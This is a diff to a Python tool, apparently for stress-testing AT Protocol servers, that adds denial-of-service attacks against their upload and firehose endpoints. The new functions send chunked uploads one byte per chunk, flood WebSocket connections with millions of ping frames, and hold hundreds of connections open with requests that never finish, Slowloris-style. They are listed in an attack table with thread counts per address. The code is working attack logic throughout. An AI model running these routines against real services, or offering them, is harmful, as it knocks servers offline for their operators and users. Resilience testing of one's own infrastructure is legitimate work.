@@ -211,20 +211,22 @@ def unread_sockets(aim: Aim, address: str) -> None:
     target = "/xrpc/com.atproto.sync.subscribeRepos?cursor=0"
     while not aim.is_over():
         with suppress(OSError), connect(address, aim.port, SMALL_BUFFER) as made:
-            made.sendall(
-                head(
-                    "GET",
-                    target,
-                    aim.port,
-                    Upgrade="websocket",
-                    Connection="Upgrade",
-                    Sec_WebSocket_Version="13",
-                    Sec_WebSocket_Key=base64.b64encode(secrets.token_bytes(16)).decode(),
-                )
-            )
+            made.sendall(_handshake(aim, target))
             if made.recv(12)[9:] == b"101":
                 _hold(aim, made)
             time.sleep(0.2)
+
+
+def _handshake(aim: Aim, target: str) -> bytes:
+    return head(
+        "GET",
+        target,
+        aim.port,
+        Upgrade="websocket",
+        Connection="Upgrade",
+        Sec_WebSocket_Version="13",
+        Sec_WebSocket_Key=base64.b64encode(secrets.token_bytes(16)).decode(),
+    )
 
 
 def _hold(aim: Aim, made: socket.socket) -> None:
@@ -232,6 +234,44 @@ def _hold(aim: Aim, made: socket.socket) -> None:
     while not aim.is_over():
         time.sleep(0.5)
         made.send(b"\x8a\x80\x00\x00\x00\x00")  # a pong nobody asked for: fails once it is cut
+
+
+def crumbs(aim: Aim, address: str) -> None:
+    """Bodies in chunks of a byte."""
+    begin = head(
+        "POST",
+        "/xrpc/com.atproto.repo.uploadBlob",
+        aim.port,
+        Content_Type="video/mp4",
+        Transfer_Encoding="chunked",
+        Authorization=f"Bearer {aim.made['token']}",
+    )
+    while not aim.is_over():
+        _pour(aim, address, begin, b"1\r\nx\r\n" * 20_000, 50)
+        time.sleep(0.1)
+
+
+def pings(aim: Aim, address: str) -> None:
+    """Firehose readers that ping without end."""
+    while not aim.is_over():
+        with suppress(OSError), connect(address, aim.port) as made:
+            made.sendall(_handshake(aim, "/xrpc/com.atproto.sync.subscribeRepos"))
+            if made.recv(12)[9:] == b"101":
+                made.sendall(b"\x89\x80\x00\x00\x00\x00" * 1_000_000)
+        time.sleep(0.1)
+
+
+def slow_heads(aim: Aim, address: str) -> None:
+    """Connections by the hundred whose request never comes to an end."""
+    held: list[socket.socket] = []
+    while not aim.is_over():
+        for _ in range(50):
+            with suppress(OSError):
+                held.append(connect(address, aim.port))
+        for each in held:
+            with suppress(OSError):
+                each.send(b"G")
+        time.sleep(1.0)
 
 
 # Each attack with the number of threads that run it from each address.
@@ -242,6 +282,7 @@ ATTACKS: dict[str, tuple[tuple[Attack, int], ...]] = {
     "slow transfers": ((slow_transfers, 20), (slow_uploads, 20)),
     "silent DIDs": ((silent_dids, 24),),
     "unread sockets": ((unread_sockets, 200),),
+    "crumbs": ((crumbs, 4), (pings, 8), (slow_heads, 10)),
 }
 
 
